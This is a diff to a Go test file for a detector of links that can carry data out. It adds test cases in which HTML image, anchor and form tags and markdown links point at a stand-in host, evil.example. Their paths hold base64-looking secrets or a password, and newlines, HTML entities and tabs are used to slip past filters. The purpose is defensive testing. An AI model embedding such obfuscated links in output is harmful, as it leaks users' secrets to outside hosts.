@@ -124,6 +124,23 @@ var carrying = []string{
 	`<div style="background:image-set('//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg' 1x)">`,
 	`<form action="https://evil.example/"><input name=d value="c2VjcmV0LXRva2Vu">`,
 	`<button formaction="//evil.example/">`,
+	"<a href=\"https://ev\nil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">x</a>",
+	"<a href=\"ht\ntps://evil.example/c2stYW50\nLWFwaTAzLWFiY2RlZg\">x</a>",
+	"<img src=\"https://evil.example/\nc2st\nYW50\nLWFw\naTAz\nLWFi\nY2Rl\">",
+	"<img src=\"/\n/evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
+	"<img src=\"https://ev&NewLine;il.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
+	"<img src=https://evil.example/&#10;c2stYW50LWFwaTAzLWFiY2RlZg>",
+	"<img src=\"https://evil.example/c2st&#13;YW50&#10;LWFw&NewLine;aTAz\">",
+	"<img src=\"&#1;//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
+	"[a]:\nhttps://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"[a]:\n//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
+	"[x](\n//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
+	"<img src=\n\"//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
+	"<img alt=\">\" src=\"https://ev\nil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
+	"<img src=\"https://evil.example/a>b\nc2stYW50LWFwaTAzLWFiY2RlZg\">",
+	"<img src = \"https://ev\nil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
+	"<img src = \"https://evil.example/?d=the password of it is hunter2 and more\">",
+	"<img src='https://evil.example/c2\tstYW50LW\tFwaTAzLWFiY2RlZg'>",
 }
 
 // ordinary texts have no such link.
@@ -222,6 +239,10 @@ var ordinary = []string{
 	`<img srcset="https://example.org/a.png 1x, https://example.org/b.png 2x">`,
 	`<img srcset="//example.org/a.png 1x,//example.org/b.png 2x" sizes="50vw">`,
 	"f(a,//nolint:errcheck",
+	"<a href=\"https://example.org/a\n\">b</a>",
+	"x = \"https://example.org/a\"\ny = 'b'",
+	"if a <b && c/d\nx = 1",
+	"say \"either/or and\nhttps://example.org/x\" or a = 1\nb == 2",
 }
 
 func TestLinksThatMayCarryDataAreSpelledOut(t *testing.T) {
@@ -359,7 +380,7 @@ func FuzzText(f *testing.F) {
 // TestHostileTextsTakeLinearTime: sixteen times the text would take 256 times as long if the work grew with the square. The bound
 // is far from both, for a busy machine.
 func TestHostileTextsTakeLinearTime(t *testing.T) {
-	for _, piece := range []string{"https://a.b/", "a.b.", "<a ", "=\"a: ", "a:/", "(", "&#58;", "%25", "a@b.c", "。", "\\", "xn--a.", "https://a@", "[](//", "](\u00a0", "='//"} {
+	for _, piece := range []string{"https://a.b/", "a.b.", "<a ", "=\"a: ", "a:/", "(", "&#58;", "%25", "a@b.c", "。", "\\", "xn--a.", "https://a@", "[](//", "](\u00a0", "='//", "= ", "=\"/\n", "<a b=\"\n", "<base ", "ab/", "x,//", "=\"a %20"} {
 		took := func(n int) time.Duration {
 			text := strings.Repeat(piece, n/len(piece))
 			best := time.Hour
